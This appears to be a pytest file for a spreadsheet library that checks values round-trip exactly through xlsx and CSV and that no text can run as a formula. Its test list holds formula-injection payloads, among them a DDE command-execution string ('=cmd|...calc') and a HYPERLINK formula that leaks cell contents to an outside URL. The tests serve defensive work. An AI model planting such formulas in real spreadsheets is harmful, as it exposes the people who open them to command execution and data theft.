"""Writing: what goes out comes back exactly, runs in no spreadsheet, and is the same bytes every time."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ElementTree
import zipfile
from collections.abc import Iterable, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from concordat.core.cells import ERRORS, is_live, tidy, writable
from concordat.core.finding import Finding, Severity
from concordat.core.rows import COMMAND_LINE, Table, as_date, as_pence, as_percent, read_bytes, read_tables
from concordat.core.sheets import Column, Sheet, Unwritable, annotate, write_csv, write_workbook

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u200b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "''=1",
    "'tis",
    "-",
    "a;=1+1",
    'a",=1+1',
    "x\n=1+1",
)
NASTY = st.text(
    st.sampled_from("'=+-@\t\r\n ＝＋－＠a1;,\"|&<>_x0041_\x07\x0b\ufffe\u200b\u00a0£") | st.characters(), max_size=20
)


def workbook(*sheets: Sheet) -> bytes:
    stream = io.BytesIO()
    write_workbook(stream, sheets)
    return stream.getvalue()


def sheet(columns: Sequence[Column | str], *rows: Iterable[Any], title: str = "Contract", **more: Any) -> Sheet:
    made = tuple(each if isinstance(each, Column) else Column(heading=each) for each in columns)
    return Sheet(title=title, columns=made, rows=[tuple(row) for row in rows], **more)


def delimited(columns: Sequence[Column | str], *rows: Iterable[Any]) -> bytes:
    stream = io.BytesIO()
    write_csv(stream, sheet(columns).columns, [tuple(row) for row in rows])
    return stream.getvalue()


def read(data: bytes, name: str = "c.xlsx") -> Table:
    return read_bytes(name, data)[0]


def came_back(text: str) -> str | None:
    """What reading gives for this text: no blanks around it, nothing no file can hold."""
    return writable(tidy(text)) or None


# There and back


@settings(max_examples=40, deadline=None)
@given(st.lists(NASTY.filter(lambda text: tidy(text) not in ERRORS), min_size=1, max_size=8))
@example(list(PAYLOADS))
@example(["_x0041_", "_x005F_x0041_", "a\r\nb", "a\rb", "\x00", "\ud800", "&lt;", "]]>", "#x"])
def test_any_text_comes_back_exactly_from_a_workbook_and_a_csv(texts: list[str]) -> None:
    expected = [[came_back(text)] for text in texts if came_back(text)]
    for table in (
        read(workbook(sheet("a", *[(t,) for t in texts]))),
        read(delimited("a", *[(t,) for t in texts]), "c.csv"),
    ):
        assert [list(row.cells.values()) for row in table.rows] == expected


@given(NASTY.filter(lambda text: tidy(text) not in ERRORS and bool(came_back(text))))
@settings(max_examples=20, deadline=None)
def test_a_second_journey_changes_nothing_more(text: str) -> None:
    def round_trip(value: Any) -> Any:
        by_book = read(workbook(sheet("a", [value]))).rows[0].cells["a"]
        return read(delimited("a", [by_book]), "c.csv").rows[0].cells["a"]

    assert round_trip(round_trip(text)) == round_trip(text)


KINDS = (
    Column(heading="Text"),
    Column(heading="Day", kind="date"),
    Column(heading="Sum", kind="money"),
    Column(heading="Count", kind="whole"),
    Column(heading="Share", kind="percent"),
    Column(heading="Sure", kind="yes_no"),
)
ROW = ("007", date(2027, 3, 31), 1234.5, -5, 0.035, True)


@pytest.mark.parametrize("name", ["c.xlsx", "c.csv"])
def test_every_kind_of_value_means_the_same_when_read_again(name: str) -> None:
    data = workbook(sheet(KINDS, ROW)) if name.endswith("xlsx") else delimited(KINDS, ROW)
    cells = read(data, name).rows[0].cells
    assert cells["Text"] == "007"
    assert as_date(cells["Day"]) == date(2027, 3, 31)
    assert as_pence(cells["Sum"]) == 123_450
    assert int(str(cells["Count"])) == -5
    assert as_percent(cells["Share"]) == 0.035
    assert cells["Sure"] == "Yes"


@settings(max_examples=20, deadline=None)
@given(st.dates(), st.datetimes(), st.integers(-(10**14), 10**14), st.floats(-1e9, 1e9))
def test_dates_and_numbers_of_any_size_come_back(day: date, moment: datetime, whole: int, number: float) -> None:
    moment = moment.replace(microsecond=0)
    cells = read(workbook(sheet("abcd", (day, moment, whole, number)))).rows[0].cells
    assert cells["a"] in (day, day.isoformat())
    assert (cells["a"] == day) == (day >= date(1900, 3, 1))
    assert cells["b"] in (moment, moment.isoformat(), moment.date())
    assert (cells["c"], cells["d"]) == (whole, number)


# Nothing runs


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_runs_in_a_workbook(payload: str) -> None:
    data = workbook(sheet([payload], [payload]))
    for row in openpyxl.load_workbook(io.BytesIO(data))["Contract"].iter_rows():
        for cell in row:
            assert cell.data_type == "s"
            assert cell.quotePrefix == is_live(tidy(payload))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f" not in archive.read("xl/worksheets/sheet1.xml").replace(b"<fo", b"")


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_text_runs_in_a_csv_whatever_the_delimiter_expected(payload: str, delimiter: str) -> None:
    text = delimited([payload, "b"], [payload, "x"]).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    assert not any(is_live(cell) for cell in cells)


def test_real_numbers_stay_numbers() -> None:
    assert read(workbook(sheet("a", [-5]))).rows[0].cells["a"] == -5
    assert delimited("a", [-5], [-1.5]).decode("utf-8-sig") == '"a"\r\n-5\r\n-1.5\r\n'


# What Excel needs


def test_the_same_rows_are_the_same_bytes() -> None:
    made = sheet(KINDS, ROW, marks={(0, 1): "Look"})
    assert workbook(made) == workbook(made)


def test_the_frame_helps_whoever_fills_it_in() -> None:
    columns = (
        Column(heading="Kind", kind="choice", choices=("Buy, or not", "Build"), note="What is meant", required=True),
        Column(heading="Sure", kind="yes_no"),
        Column(heading="Day", kind="date", width=30),
    )
    data = workbook(sheet(["Read"], ["first"], title="Read me"), sheet(columns))
    book = openpyxl.load_workbook(io.BytesIO(data))
    made = book["Contract"]
    assert book.sheetnames == ["Read me", "Contract", "_lists"]
    assert book["_lists"].sheet_state == "hidden"
    assert made.freeze_panes == "A2"
    assert made["A1"].font.bold
    assert made["A1"].comment.text == "What is meant"
    assert made["A1"].fill.fgColor.rgb != made["B1"].fill.fgColor.rgb
    assert made.column_dimensions["C"].width == 30
    assert made.column_dimensions["C"].number_format == "dd/mm/yyyy"
    offered = {str(each.sqref): each.formula1 for each in made.data_validations.dataValidation}
    assert offered == {"A2:A20001": "'_lists'!$A$1:$A$2", "B2:B20001": "'_lists'!$B$1:$B$2"}
    assert [cell.value for cell in book["_lists"]["A"]] == ["Buy, or not", "Build"]
    assert [table.sheet for table in read_bytes("c.xlsx", data)] == ["Read me", "Contract"]


def test_formats_are_british_and_only_values_wear_them() -> None:
    cells = openpyxl.load_workbook(io.BytesIO(workbook(sheet(KINDS, ROW, ["x"] * 6))))["Contract"]
    assert [cell.number_format for cell in cells[2]] == ["@", "dd/mm/yyyy", "£#,##0.00", "#,##0", "0.0#%", "@"]
    assert {cell.number_format for cell in cells[3]} == {"@"}


def test_every_part_is_xml_and_the_sheet_states_its_true_size() -> None:
    data = workbook(sheet(KINDS, *[ROW] * 30, marks={(3, 0): "a\x07 & <b>\ud800"}))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for part in archive.namelist():
            ElementTree.fromstring(archive.read(part))
        assert b'<dimension ref="A1:F31"' in archive.read("xl/worksheets/sheet1.xml")


def test_a_csv_begins_so_that_excel_knows_its_encoding() -> None:
    assert delimited(["£"], ["é"]).startswith(b"\xef\xbb\xbf")


@pytest.mark.parametrize("value", ["x" * 32_768, float("nan"), float("inf")])
def test_what_no_cell_can_hold_is_refused(value: Any) -> None:
    for write in (lambda: workbook(sheet("a", [value])), lambda: delimited("a", [value])):
        with pytest.raises(Unwritable) as caught:
            write()
        assert caught.value.remedy


def test_a_place_that_cannot_be_written_is_a_sentence(tmp_path: Path) -> None:
    with pytest.raises(Unwritable, match=r"c\.xlsx"):
        write_workbook(tmp_path / "nowhere" / "c.xlsx", [sheet("a")])


@pytest.mark.parametrize("title", ["", "x" * 32, "a/b", "a[b]"])
def test_a_title_excel_would_not_take_is_a_mistake_in_the_program(title: str) -> None:
    with pytest.raises(ValueError, match="Excel takes no sheet"):
        Sheet(title=title, columns=())


def test_a_row_of_the_wrong_length_is_a_mistake_in_the_program() -> None:
    with pytest.raises(ValueError, match="2 values for 1 columns"):
        workbook(sheet("a", [1, 2]))


# The user's own file back

FINDINGS = (
    Finding("=unknown code", "check it", sheet="Contract", row=3, column="code"),
    Finding("too long", "shorten it", sheet="Contract", row=3, column="Code", severity=Severity.WARNING),
    Finding("no such day", "mend it", sheet="Contract", row=4, column="C"),
    Finding("elsewhere", "look there", file="other.xlsx", sheet="Contract", row=2, column="Code"),
    Finding("whole row", "see it", sheet="Contract", row=2),
)


def own_file() -> bytes:
    book = openpyxl.Workbook()
    made = book.active
    made.title = "Contract"
    for row in (("Code", "Name", "End"), ("RX1", "One", date(2027, 3, 31)), ("RX2", "=1+1", None), ("RX3", "x", "tbc")):
        made.append(row)
    made["A3"].comment = openpyxl.comments.Comment("ask Jo", "Sam")
    made.merge_cells("C4:D4")
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_a_workbook_comes_back_marked_and_otherwise_as_it_was() -> None:
    book = openpyxl.load_workbook(io.BytesIO(annotate(own_file(), FINDINGS, name="c.xlsx")))
    made = book["Contract"]
    assert made["B3"].value == "=1+1"
    assert made["C2"].value == datetime(2027, 3, 31)
    text = made["A3"].comment.text
    assert "Error: =unknown code. Check it." in text
    assert "Warning: Too long. Shorten it." in text
    assert text.endswith("ask Jo")
    assert made["C4"].comment.text.startswith("Error: No such day")
    assert "Whole row" in made["A2"].comment.text
    assert "Elsewhere" not in made["A2"].comment.text
    assert made["A3"].fill.fgColor.rgb != made["A4"].fill.fgColor.rgb
    listed = list(book["Findings"].values)
    assert len(listed) == 1 + len(FINDINGS)
    assert book["Findings"]["E2"].data_type == "s"


def test_a_second_round_clears_the_marks_of_the_first() -> None:
    once = annotate(own_file(), FINDINGS, name="c.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(annotate(once, FINDINGS[2:3], name="c.xlsx")))
    assert book.sheetnames == ["Contract", "Findings"]
    assert book["Contract"]["A3"].comment.text == "ask Jo"
    assert book["Contract"]["A2"].comment is None
    assert book["Contract"]["A2"].fill.fill_type is None
    assert (
        book["Contract"]["C4"].comment.text.count("no such day")
        + book["Contract"]["C4"].comment.text.count("No such day")
        == 1
    )


def test_a_csv_comes_back_as_a_workbook_with_its_own_row_numbers(tmp_path: Path) -> None:
    path = tmp_path / "Contract.csv"
    path.write_text("A title\n\nCode,Name\nRX1,'=1+1\nRX2,#N/A,extra\n")
    table = read_tables(path)[0]
    data = annotate(path, [*table.findings, table.rows[0].finding("Name", "odd", "mend it")])
    made = openpyxl.load_workbook(io.BytesIO(data))["Contract"]
    assert [cell.value for cell in made["A"]] == ["A title", None, "Code", "RX1", "RX2"]
    assert (made["B4"].value, made["B4"].data_type) == ("=1+1", "s")
    assert made["B5"].value == "#N/A"
    assert "Odd" in made["B4"].comment.text
    assert "#N/A" in made["B5"].comment.text
    assert "taken from row 3" in made["A3"].comment.text


def test_what_was_marked_is_read_as_it_was(tmp_path: Path) -> None:
    data = annotate(
        delimited(KINDS, ROW, ROW), [Finding("odd", "mend it", sheet="c", row=3, column="Day")], name="c.csv"
    )
    again = read_bytes("c.xlsx", data, limits=COMMAND_LINE)
    assert [table.sheet for table in again] == ["c", "Findings"]
    assert [row.cells for row in again[0].rows] == [row.cells for row in read(delimited(KINDS, ROW, ROW), "c.csv").rows]
